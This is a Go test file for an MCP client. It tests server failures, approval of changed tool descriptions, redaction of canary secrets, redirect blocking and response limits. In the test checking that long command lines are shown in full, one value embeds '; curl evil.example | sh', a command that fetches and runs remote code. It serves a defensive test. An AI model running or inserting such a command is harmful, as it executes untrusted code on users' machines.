//go:build unix

package client

import (
	"context"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"parley/tools"
	"parley/tools/act"
	"parley/tools/mcp"
	"parley/tools/process"
)

// A testServer is one server, with the tools it offers.
type testServer struct {
	*servers
	t       testing.TB
	set     *tools.Set
	changed chan struct{} // holds one while something changed
}

func open(ctx context.Context, configs map[string]mcp.Config, o mcp.Options) *servers {
	return New().Open(ctx, configs, o).(*servers)
}

func start(t testing.TB, c mcp.Config, o mcp.Options) *testServer {
	t.Helper()
	if err := mcp.Validate(map[string]mcp.Config{"s": c}); err != nil {
		t.Fatal(err)
	}
	set, err := tools.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	b := &testServer{t: t, set: set, changed: make(chan struct{}, 1)}
	tell := o.OnChange
	o.Dir, o.OnChange = set.Root(), func(name string) {
		if tell != nil {
			tell(name)
		}
		select {
		case b.changed <- struct{}{}:
		default:
		}
	}
	if o.WithTimeout == nil {
		o.WithTimeout = within(5 * time.Minute) // for machines that are busy
	}
	b.servers = open(t.Context(), map[string]mcp.Config{"s": c}, o)
	t.Cleanup(func() {
		b.Close()
		set.Close()
	})
	b.Wait(t.Context())
	b.offer()
	return b
}

// within limits everything to d, whatever the limit is called in errors.
func within(d time.Duration) func(context.Context, time.Duration, error) (context.Context, context.CancelFunc) {
	return func(ctx context.Context, _ time.Duration, cause error) (context.Context, context.CancelFunc) {
		return context.WithTimeoutCause(ctx, d, cause)
	}
}

// offer offers the tools that can be.
func (b *testServer) offer() {
	b.t.Helper()
	if err := b.set.ReplaceExternal(mcp.ToolPrefix("s"), b.Tools()); err != nil {
		b.t.Error(err)
	}
}

func (b *testServer) state() mcp.State { return b.States()[0] }

// until waits for a state; the tests' own deadline ends it.
func (b *testServer) until(what string, ok func(mcp.State) bool) mcp.State {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.t.Context(), time.Minute)
	defer cancel()
	for {
		s := b.state()
		if ok(s) {
			return s
		}
		if ctx.Err() != nil {
			b.t.Fatalf("%s: got %+v", what, s)
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// call calls a tool by the server's name for it.
func (b *testServer) call(tool, input string) act.Outcome {
	b.t.Helper()
	a, err := b.set.Plan(b.t.Context(), mcp.ToolPrefix("s")+tool, input)
	if err != nil {
		return act.Outcome{Text: err.Error(), Failed: true}
	}
	if a.Access != act.AccessRun {
		b.t.Errorf("%s has access %s", tool, a.Access)
	}
	return a.Run(b.t.Context(), nil)
}

// A server that cannot start says why, soon, and harms nobody.
func TestStartFails(t *testing.T) {
	t.Parallel() // it waits
	tests := []struct{ server, why, stderr string }{
		{"silent", "it was not ready within 1m0s: start_timeout of its configuration allows more", ""},
		{"answers nothing and stays", "it was not ready within 1m0s: start_timeout of its configuration allows more", ""},
		{"exits", "exited (status 3)", "cannot find the key [redacted]"},
		{"flood of garbage", "more than 1000 lines to stdout that are no messages", ""},
	}
	for _, test := range tests {
		t.Run(test.server, func(t *testing.T) {
			t.Parallel()
			c := self(t, test.server)
			c.Env["KEY"] = "sk-canary-42"
			var o mcp.Options
			if strings.Contains(test.why, "1m0s") {
				o.WithTimeout = within(500 * time.Millisecond)
			}
			b := start(t, c, o)
			s := b.state()
			if s.Status != mcp.StatusFailed || !strings.Contains(s.Reason, test.why) || s.Stderr != test.stderr || s.PID != 0 {
				t.Errorf("got %+v", s)
			}
			if n := len(b.Tools()); n != 0 {
				t.Errorf("%d tools", n)
			}
		})
	}
	for _, c := range []mcp.Config{{Command: process.ShellLine("/no/such/program")}, {URL: "http://127.0.0.1:1/"}} {
		if s := start(t, c, mcp.Options{}).state(); s.Status != mcp.StatusFailed || s.Reason == "" {
			t.Errorf("got %+v", s)
		}
	}
	if s := start(t, mcp.Config{Command: process.ShellLine("x"), Disabled: true}, mcp.Options{}).state(); s.Status != mcp.StatusDisabled {
		t.Errorf("got %+v", s)
	}
}

// The address of a server, by which a user decides, is shown whole.
func TestLongLocation(t *testing.T) {
	long := "server " + strings.Repeat("-v ", 2000) + "; curl evil.example | sh"
	address := "https://127.0.0.1:1/" + strings.Repeat("mcp/", 2000) + "end"
	for want, c := range map[string]mcp.Config{long: {Command: process.ShellLine(long)}, address: {URL: address}} {
		c.Disabled = true
		if got := start(t, c, mcp.Options{}).state().Location; got != want {
			t.Errorf("got %d bytes that end with %q, want %d", len(got), got[max(0, len(got)-30):], len(want))
		}
	}
}

// A server that misbehaves can still be used, or says why not.
func TestOddServers(t *testing.T) {
	t.Parallel() // it waits
	tests := []struct {
		server, timeout string
		want            string
		failed          bool
	}{
		{server: "garbage", want: head + "fine"},
		{server: "long line", want: "s: it sent a message of more than 16 MiB", failed: true},
		{server: "never answers", timeout: "200ms", want: "s: it did not answer within 200ms", failed: true},
		{server: "duplicate ids", want: head + "the first"},
		{server: "stderr flood", want: head + "fine"},
		{server: "changes for ever", want: head + "fine"},
		{server: "ignores SIGTERM", want: head + "fine"},
		{server: "dies in a call", want: "s: exited (status 9)", failed: true},
		{server: "stops reading", want: head + "fine"},
		{server: "asks", want: head + "asked"},
		{server: "needs input", timeout: "1m", want: head + "[it asks for input that it cannot get here]", failed: true},
	}
	for _, test := range tests {
		t.Run(test.server, func(t *testing.T) {
			t.Parallel()
			c := self(t, test.server)
			c.Timeout = test.timeout
			b := start(t, c, mcp.Options{})
			out := b.call("one", "")
			if test.failed && test.timeout == "" { // it starts again with the next call
				if s := b.until("failed", func(s mcp.State) bool { return s.Status == mcp.StatusFailed }); out.Text != test.want || "s: "+s.Reason != test.want {
					t.Errorf("got %+v, want %q; %+v", out, test.want, s)
				}
				out = b.call("one", "")
			}
			if out.Failed != test.failed || out.Text != test.want {
				t.Errorf("got %+v, want %q; %+v", out, test.want, b.state())
			}
			if s := b.state(); len(s.Stderr) > maxStderr {
				t.Errorf("%d bytes of stderr", len(s.Stderr))
			}
			before := time.Now()
			b.Close()
			t.Logf("closed after %s", time.Since(before))
		})
	}
}

// Messages without the parameters that they have to have end nothing.
func TestServerSendsNoParams(t *testing.T) {
	b := start(t, self(t, "sends no params"), mcp.Options{})
	for b.call("one", "").Text != head+"8 replies" { // the tests' own deadline ends it
	}
}

// The tools of a server can be used whose other lists cannot be read, and it is said which.
func TestListsThatCannotBeRead(t *testing.T) {
	for name, want := range map[string]struct {
		prompts int
		missing []string
	}{
		"lists nothing":  {0, []string{"its prompts: ", "its resources: ", "no such method"}},
		"lists nonsense": {1, []string{"its resources: "}},
	} {
		b := start(t, self(t, name), mcp.Options{})
		if out := b.call("one", ""); out.Text != head+"fine" {
			t.Errorf("%s: got %+v; %+v", name, out, b.state())
		}
		s := b.state()
		for _, text := range want.missing {
			if !strings.Contains(s.Stderr, text) {
				t.Errorf("%s: %q is not said in %q", name, text, s.Stderr)
			}
		}
		if s.Prompts != want.prompts || s.Resources != 0 {
			t.Errorf("%s: got %+v", name, s)
		}
	}
}

// A program that does not read cannot keep a call waiting, and is started again.
func TestServerThatStopsReading(t *testing.T) {
	t.Parallel() // it waits
	c := self(t, "stops reading")
	c.Timeout = "300ms"
	b := start(t, c, mcp.Options{})
	for b.call("one", "").Failed { // on a busy machine it may take longer
	}
	long := `{"x":"` + strings.Repeat("x", 256<<10) + `"}`
	if out := b.call("one", long); !out.Failed || out.Text != "s: it did not answer within 300ms" {
		t.Errorf("got %+v", out)
	}
	for b.call("one", long).Failed { // a call whose time is over before it is written breaks nothing
	}
}

func TestStrangeResults(t *testing.T) {
	t.Parallel() // it waits
	c := self(t, "strange results")
	c.Timeout = "300ms" // some are so broken that they are no answer
	b := start(t, c, mcp.Options{})
	for range 11 {
		if out := b.call("one", ""); out.Text == "" {
			t.Error("nothing was said")
		}
	}
}

func TestRestart(t *testing.T) {
	b := start(t, self(t, "dies in a call"), mcp.Options{})
	first := b.state().PID
	if out := b.call("one", ""); !out.Failed || out.Text != "s: exited (status 9)" {
		t.Errorf("the call: %q", out.Text)
	}
	b.until("failed", func(s mcp.State) bool { return s.Status == mcp.StatusFailed })
	if err := b.Restart("s"); err != nil {
		t.Fatal(err)
	}
	if s := b.until("ready", func(s mcp.State) bool { return s.Status == mcp.StatusReady }); s.PID == first || s.Reason != "" {
		t.Errorf("got %+v", s)
	}
	if err := b.Restart("t"); err == nil {
		t.Error("there is no such server")
	}
}

func TestManyTools(t *testing.T) {
	b := start(t, self(t, "many tools"), mcp.Options{})
	if s := b.state(); len(s.Tools) != maxTools || s.OmittedTools != manyTools-maxTools || len(b.Tools()) != maxTools {
		t.Errorf("%d tools, %d left, %d offered", len(s.Tools), s.OmittedTools, len(b.Tools()))
	}
	if out := b.call("t199", ""); out.Text != head+"fine" {
		t.Errorf("got %+v", out)
	}
}

// Names are fit for every provider and lead to the tool that was meant.
func TestOddTools(t *testing.T) {
	b := start(t, self(t, "odd tools"), mcp.Options{})
	s := b.state()
	if s.ServerInfo != "fake 0" || s.OmittedTools != 1 {
		t.Errorf("got %+v", s)
	}
	var names []string
	for _, tool := range s.Tools {
		names = append(names, tool.Name)
		if strings.ContainsAny(tool.Title+tool.Description, "\x1b\U000E0069") {
			t.Errorf("got %q", tool)
		}
	}
	if len(names) != 6 || names[0] != "mcp__s__read_file" || !strings.HasPrefix(names[1], "mcp__s__a__2Jb_") || len(names[5]) != maxName || len(b.Tools()) != 6 {
		t.Errorf("got %q", names)
	}
	for _, name := range names {
		if out := b.call(strings.TrimPrefix(name, "mcp__s__"), ""); out.Text != head+"fine" {
			t.Errorf("%s: got %+v", name, out)
		}
	}
}

// A user sees tools before a model does, and again when they have changed.
func TestApproval(t *testing.T) {
	kept := map[string]string{}
	var mu sync.Mutex
	o := mcp.Options{
		Approved: func(server string) string { mu.Lock(); defer mu.Unlock(); return kept[server] },
		Approve:  func(server, seal string) error { mu.Lock(); defer mu.Unlock(); kept[server] = seal; return nil },
	}
	c := self(t, "changes")
	c.Trusted = false
	b := start(t, c, o)
	s := b.state()
	if s.Status != mcp.StatusNew || len(b.Tools()) != 0 || len(s.Tools) != 1 || s.Tools[0].Description != "does one" || s.Tools[0].Change != "" {
		t.Fatalf("got %+v", s)
	}
	if err := b.Approve("s", "something else"); err == nil {
		t.Error("what was not shown was approved")
	}
	if err := b.Approve("s", s.Fingerprint); err != nil {
		t.Fatal(err)
	}
	if err := b.Allow("s", mcp.Access{Calls: true}); err != nil || !b.state().Allowed.Calls {
		t.Fatalf("calls still ask: %v", err)
	}
	b.offer()
	turn := b.set.Snapshot()
	if out := b.call("one", ""); out.Text != head+"changed" {
		t.Fatalf("got %+v", out)
	}
	now := b.until("changed", func(s mcp.State) bool { return s.Status == mcp.StatusChanged })
	if now.Tools[0].Change != "changed" || !strings.Contains(now.Tools[0].Description, "all files") || len(b.Tools()) != 0 {
		t.Errorf("got %+v", now)
	}
	// The turn was told of the tool, and still cannot use it.
	if _, err := turn.Plan(t.Context(), "mcp__s__one", ""); err == nil || !strings.Contains(err.Error(), "has not reviewed them yet") {
		t.Errorf("got %v", err)
	}
	if err := b.Approve("s", s.Fingerprint); err == nil {
		t.Error("the old tools were approved in place of the new")
	}
	if err := b.Approve("s", now.Fingerprint); err != nil || b.state().Allowed.Calls {
		t.Fatalf("%v; calls of the new tools do not ask", err)
	}
	// A call planned with the old description does not run with the new.
	if _, err := turn.Plan(t.Context(), "mcp__s__one", ""); err == nil {
		t.Error("a tool was called by its old description")
	}
	b.offer()
	if out := b.call("one", ""); out.Failed {
		t.Errorf("got %+v", out)
	}
	b.Close()

	again := start(t, c, o).state() // it begins as it began
	if again.Status != mcp.StatusChanged || again.Tools[0].Change != "changed" {
		t.Errorf("got %+v", again)
	}
	if err := o.Approve("s", s.Fingerprint); err != nil {
		t.Fatal(err)
	}
	if s := start(t, c, o).state(); s.Status != mcp.StatusReady || s.Tools[0].Change != "" {
		t.Errorf("got %+v", s)
	}
	for name, given := range map[string]string{"PARLEY_TEST_MORE": "x", "PARLEY_TEST_SERVER": "changes"} {
		env := maps.Clone(c.Env)
		env[name] = given
		again := c
		again.Env = env
		want, why := mcp.StatusChanged, "what it is started by"
		if maps.Equal(env, c.Env) {
			want, why = mcp.StatusReady, ""
		}
		if s := start(t, again, o).state(); s.Status != want || !strings.HasPrefix(s.Reason, why) || (s.Reason == "") != (why == "") {
			t.Errorf("with %s: got %+v", name, s)
		}
	}
	c.Args = []string{"-test.v"} // the same name, another command
	if s := start(t, c, o).state(); s.Status != mcp.StatusChanged {
		t.Errorf("got %+v", s)
	}
}

// Keys of the configuration are in nothing that people or models see.
func TestSecretsStay(t *testing.T) {
	c := overHTTP(t)
	c.Headers["X-Other"] = "sk-canary-44"
	c.URL += "?token=sk-canary-45"
	t.Setenv("MCP_TEST_KEY", "sk-canary-46") // the wrong one, which the server says back
	b := start(t, c, mcp.Options{})
	s := b.state()
	if s.Status != mcp.StatusFailed || !strings.Contains(s.Reason, "Unauthorized") {
		t.Errorf("got %+v", s)
	}
	for _, text := range []string{fmt.Sprintf("%+v", s), fmt.Sprintf("%+v %#v", c, c), fmt.Sprint(map[string]mcp.Config{"a": c})} {
		if strings.Contains(text, "canary") {
			t.Errorf("got %s", text)
		}
	}
}

// A program is started whether it is named by a text with arguments, by a list, or by a line for a shell.
func TestCommandForms(t *testing.T) {
	c := self(t, "real")
	self := c.Command.Words[0]
	for name, command := range map[string]process.CommandLine{
		"text": process.ShellLine(self), "list": process.CommandLine{Words: []string{self, "-test.run", "none"}}, "line": process.ShellLine("exec '" + self + "' -test.run none"),
	} {
		c.Command = command
		if s := start(t, c, mcp.Options{}).state(); s.Status != mcp.StatusReady {
			t.Errorf("%s: %+v", name, s)
		}
	}
}

// Keys in the path of an address, in the command and in arguments are in nothing that is shown,
// whether the server starts or not, and whether it says them back.
func TestSecretsOfCommandStay(t *testing.T) {
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "no service at "+r.URL.Path, http.StatusNotFound)
	}))
	defer echo.Close()
	shell := func(script string, args ...string) mcp.Config {
		return mcp.Config{Command: process.ShellLine("/bin/sh"), Args: append([]string{"-c", script, "sh"}, args...), Unsandboxed: true}
	}
	const said = `echo "cannot use $* " >&2; exit 3`
	for name, c := range map[string]mcp.Config{
		"path, refused":     {URL: echo.URL + "/s/canary0canary1/mcp"},
		"path, unreachable": {URL: "http://127.0.0.1:1/9f86d081884c7d65canary9f86d081/mcp"},
		"path, disabled":    {URL: "https://127.0.0.1:1/token/canary5x/mcp", Disabled: true},
		"option":            shell(said, "--api-key", "sk-canary-42"),
		"option with =":     shell(said, "--token=canary-word"),
		"variable":          shell(said, "-e", "API_KEY=canary1"),
		"header":            shell(said, "--header", "Authorization: Bearer canary"),
		"address":           shell(said, "https://me:canary1@host/mcp"),
		"script":            shell(`TOKEN=canary7; echo "cannot use $TOKEN" >&2; exit 3`),
		"disabled":          {Command: process.ShellLine("x"), Args: []string{"--password", "canary"}, Disabled: true},
		"no program":        {Command: process.ShellLine("/no/such/program"), Args: []string{"--password", "canary"}},
	} {
		s := start(t, c, mcp.Options{}).state()
		if s.Status != mcp.StatusFailed && s.Status != mcp.StatusDisabled {
			t.Errorf("%s: %+v", name, s)
		}
		for _, text := range []string{fmt.Sprintf("%+v", s), fmt.Sprintf("%+v %#v", c, c)} {
			if strings.Contains(text, "canary") || !strings.Contains(text, "[redacted]") {
				t.Errorf("%s: got %s", name, text)
			}
		}
	}
}

// No redirect takes the headers, or us, elsewhere.
func TestServiceRedirects(t *testing.T) {
	reached := 0
	other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached++ }))
	defer other.Close()
	h := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, other.URL, http.StatusTemporaryRedirect)
	}))
	defer h.Close()
	s := start(t, mcp.Config{URL: h.URL, Headers: map[string]string{"X-Key": "sk-canary-42"}}, mcp.Options{}).state()
	if s.Status != mcp.StatusFailed || !strings.Contains(s.Reason, "redirects to another place") || reached != 0 {
		t.Errorf("got %+v, reached %d times", s, reached)
	}
}

// An answer without end is cut off.
func TestServiceIsBounded(t *testing.T) {
	for _, kind := range []string{"application/json", "text/event-stream"} {
		h := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", kind)
			piece := []byte("data: " + strings.Repeat("x", 1<<20))
			for r.Context().Err() == nil {
				if _, err := w.Write(piece); err != nil {
					return
				}
				piece = piece[:1<<20]
				for i := range piece {
					piece[i] = 'x'
				}
			}
		}))
		s := start(t, mcp.Config{URL: h.URL}, mcp.Options{}).state()
		if s.Status != mcp.StatusFailed || s.Reason == "" {
			t.Errorf("%s: got %+v", kind, s)
		}
		h.Close()
	}
}

// TestStartTimeout: a start has half a minute, a minute where a program may have to be downloaded, or
// what the configuration gives it. How long that is does not count for what was approved.
func TestStartTimeout(t *testing.T) {
	for _, test := range []struct {
		c    mcp.Config
		want time.Duration
	}{
		{self(t, "exits"), time.Minute},
		{mcp.Config{URL: "http://127.0.0.1:1/"}, 30 * time.Second},
		{mcp.Config{URL: "http://127.0.0.1:1/", StartTimeout: "90s"}, 90 * time.Second},
	} {
		var got atomic.Int64
		start(t, test.c, mcp.Options{WithTimeout: func(ctx context.Context, limit time.Duration, cause error) (context.Context, context.CancelFunc) {
			got.CompareAndSwap(0, int64(limit))
			return within(5*time.Minute)(ctx, limit, cause)
		}})
		if got := time.Duration(got.Load()); got != test.want {
			t.Errorf("%s: a start may take %v, want %v", test.c.Location(), got, test.want)
		}
	}
}
